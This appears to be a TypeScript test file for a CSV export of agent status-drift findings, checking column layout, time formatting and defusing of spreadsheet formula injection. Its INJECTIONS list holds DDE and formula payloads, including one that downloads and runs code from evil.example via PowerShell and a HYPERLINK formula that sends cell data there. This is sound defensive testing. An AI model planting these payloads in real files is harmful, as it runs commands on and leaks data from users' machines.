import { execFileSync } from 'node:child_process';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DRIFT_COLUMNS, driftCsv, driftHeader, driftLines } from '../../src/csv/drift-csv.ts';
import { defuse } from '../../src/csv/format-cells.ts';
import { openZoneClock } from '../../src/csv/zone-clock.ts';
import type { DriftRow } from '../../src/usecases/ports.ts';

const ROW: DriftRow = {
  findingId: 'f1',
  userId: 'u1',
  agentName: 'Ada Lovelace',
  team: 'Sales, North',
  timeZone: 'Europe/London',
  kind: 'boundary_drift',
  status: 'open',
  loggedState: 'busy',
  reportedState: 'available',
  loggedAt: Date.parse('2026-03-29T01:30:00.000Z'),
  reportedAt: Date.parse('2026-03-29T00:59:59.500Z'),
  driftMs: -1_830_500,
  differenceFrom: Date.parse('2026-03-29T00:59:59.500Z'),
  differenceTo: Date.parse('2026-03-29T01:30:00.000Z'),
  differenceMs: 1_830_500,
  shiftId: 's1',
  shiftEdge: 'end',
  shiftEdgeAt: Date.parse('2026-03-29T01:30:00.500Z'),
  shiftOffsetMs: -500,
  correctionCount: 2,
  correctionStatus: 'take_back_unknown',
  reviewedBy: 'grace',
  reviewNote: 'said "fine"',
  runId: 7,
  detectedAt: Date.parse('2026-03-29T02:00:00.042Z'),
};

const BARE: DriftRow = {
  ...ROW,
  agentName: undefined,
  team: undefined,
  timeZone: undefined,
  loggedState: undefined,
  reportedState: undefined,
  loggedAt: undefined,
  reportedAt: undefined,
  driftMs: undefined,
  shiftId: undefined,
  shiftEdge: undefined,
  shiftEdgeAt: undefined,
  shiftOffsetMs: undefined,
  correctionCount: 0,
  correctionStatus: undefined,
  reviewedBy: undefined,
  reviewNote: undefined,
};

function lines(...rows: DriftRow[]): string {
  return driftLines(rows, openZoneClock());
}

async function collect(parts: AsyncIterable<string>): Promise<string[]> {
  const all: string[] = [];
  for await (const part of parts) all.push(part);
  return all;
}

function cellsOf(row: DriftRow): Record<string, string> {
  const [cells]: Record<string, string>[] = parse(driftHeader() + lines(row), {
    columns: true,
    record_delimiter: '\r\n',
  });
  return cells!;
}

describe('the drift CSV', () => {
  it('writes the columns of surface.md, instants, seconds and local times', () => {
    expect(driftHeader()).toBe(
      'finding_id,agent_id,agent_name,team,kind,status,logged_state,reported_state,logged_at,reported_at,drift_seconds,difference_from,difference_to,difference_seconds,shift_id,shift_edge,shift_edge_at,shift_offset_seconds,correction_count,correction_status,reviewed_by,review_note,run_id,detected_at,time_zone,logged_at_local,reported_at_local\r\n',
    );
    expect(lines(ROW)).toBe(
      'f1,u1,Ada Lovelace,"Sales, North",boundary_drift,open,busy,available,2026-03-29T01:30:00.000Z,2026-03-29T00:59:59.500Z,-1830.500,2026-03-29T00:59:59.500Z,2026-03-29T01:30:00.000Z,1830.500,s1,end,2026-03-29T01:30:00.500Z,-0.500,2,take_back_unknown,grace,"said ""fine""",7,2026-03-29T02:00:00.042Z,Europe/London,2026-03-29T02:30:00.000+01:00,2026-03-29T00:59:59.500+00:00\r\n',
    );
  });

  it('leaves empty what does not apply', () => {
    expect(lines(BARE)).toBe(
      'f1,u1,,,boundary_drift,open,,,,,,2026-03-29T00:59:59.500Z,2026-03-29T01:30:00.000Z,1830.500,,,,,0,,,,7,2026-03-29T02:00:00.042Z,,,\r\n',
    );
  });

  it('has its header without any finding, and the same bytes for the same findings', async () => {
    async function* pages(): AsyncGenerator<readonly DriftRow[]> {
      yield [ROW, BARE];
      yield [];
      yield [ROW];
    }
    async function* none(): AsyncGenerator<readonly DriftRow[]> {}
    const text = await collect(driftCsv(pages(), openZoneClock()));
    expect(text.join('')).toBe(driftHeader() + lines(ROW, BARE, ROW));
    expect(await collect(driftCsv(none(), openZoneClock()))).toEqual([driftHeader()]);
  });

  it.each([
    [0, '0.000'],
    [-0, '0.000'],
    [-1, '-0.001'],
    [999, '0.999'],
    [2_001, '2.001'],
    [-60_000, '-60.000'],
    [9_007_199_254_740_991, '9007199254740.991'],
  ])('writes %d ms as %s seconds', (driftMs, text) => {
    expect(cellsOf({ ...ROW, driftMs }).drift_seconds).toBe(text);
  });

  it('writes the same bytes whatever time zone the machine is in', () => {
    const program = `
      import { driftLines } from './src/csv/drift-csv.ts';
      import { openZoneClock } from './src/csv/zone-clock.ts';
      process.stdout.write(driftLines([JSON.parse(process.argv[1])], openZoneClock()));`;
    const args = ['--input-type=module', '--eval', program, JSON.stringify(ROW)];
    const env = { ...process.env, TZ: 'Australia/Lord_Howe' };
    expect(execFileSync(process.execPath, args, { env, encoding: 'utf8' })).toBe(lines(ROW));
  });
});

/** OWASP's list, DDE and what slips past prefix checks. */
const INJECTIONS = [
  '=1+1',
  '+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=DDE("cmd";"/C calc";"a")',
  '\t=1',
  '\r=1',
  '\n=1',
  '\tharmless',
  ' =1',
  '\u00a0=1',
  '\u0000=1',
  '\u200b=1',
  '\ufeff=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  'a;=1',
  ";=cmd|' /C calc'!A0",
  'a; \t=1',
  'a,=1',
  'a\n=1',
  'a\r\n+1',
  'a\t@x',
  '"=1',
];

describe('text that a spreadsheet would run', () => {
  it.each(INJECTIONS)('is harmless in every column of text: %j', (text) => {
    const row = {
      ...ROW,
      findingId: text,
      userId: text,
      agentName: text,
      team: text,
      loggedState: text,
      reportedState: text,
      shiftId: text,
      reviewedBy: text,
      reviewNote: text,
      timeZone: text,
    };
    const line = lines(row);
    const [cells]: string[][] = parse(line, { record_delimiter: '\r\n' });
    expect(cells).toHaveLength(DRIFT_COLUMNS.length);
    const ours = new Set(['drift_seconds', 'shift_offset_seconds']);
    for (const [index, column] of DRIFT_COLUMNS.entries()) {
      if (!ours.has(column)) expect(cells![index]).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
      expect(cells![index]).not.toMatch(/^[\t\r\n]/);
    }
    // A spreadsheet that separates by semicolons or tabs ignores our quotes.
    for (const part of line.split(/[;\t\r\n]/))
      expect(part).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
  });

  it.each(['Jean-Luc', 'a=b', 'ops@example.com', '5 - 3', "O'Hara", '1+1', 'Ünïcödé 😀', ''])(
    'is not seen in %j',
    (text) => {
      expect(defuse(text)).toBe(text);
      expect(cellsOf({ ...ROW, agentName: text }).agent_name).toBe(text);
    },
  );
});

describe('any text', () => {
  const unit = fc.constantFrom(
    '"',
    ',',
    ';',
    '\r',
    '\n',
    '\t',
    ' ',
    '=',
    '+',
    '-',
    '@',
    "'",
    'a',
    'é',
    '😀',
    '\u0000',
  );
  const text = fc.option(fc.string({ unit, maxLength: 12 }), { nil: undefined });
  const ms = fc.integer({ min: Date.UTC(2000, 0, 1), max: Date.UTC(2099, 0, 1) });
  const row = fc
    .record({
      agentName: text,
      team: text,
      reviewNote: text,
      loggedState: text,
      userId: fc.string({ unit }),
      at: ms,
    })
    .map(
      ({ at, ...texts }): DriftRow => ({
        ...ROW,
        ...texts,
        loggedAt: at,
        differenceFrom: at,
        detectedAt: at,
      }),
    );

  it('comes back from csv-parse as it was, but for apostrophes that defuse it', () => {
    fc.assert(
      fc.property(row, (any) => {
        const cells = cellsOf(any);
        expect(cells.agent_name).toBe(defuse(any.agentName ?? ''));
        expect(cells.agent_name?.replaceAll("'", '')).toBe((any.agentName ?? '').replaceAll("'", ''));
        expect(cells.review_note).toBe(defuse(any.reviewNote ?? ''));
        expect(cells.agent_id).toBe(defuse(any.userId));
        expect(cells.logged_at).toBe(new Date(any.loggedAt!).toISOString());
        expect(Date.parse(cells.logged_at_local!)).toBe(any.loggedAt);
        expect(cells.run_id).toBe('7');
      }),
      { numRuns: 500 },
    );
  });

  it('is encoded byte by byte as csv-stringify does it', () => {
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), (rows) => {
        const ours = lines(...rows);
        const cells: string[][] = parse(ours, { record_delimiter: '\r\n' });
        const theirs = stringify(cells, {
          record_delimiter: 'windows',
          quote_record_delimiter: true,
          quoted_match: /[;\t\r\n]/,
        });
        expect(ours).toBe(theirs);
      }),
      { numRuns: 300 },
    );
  });
});
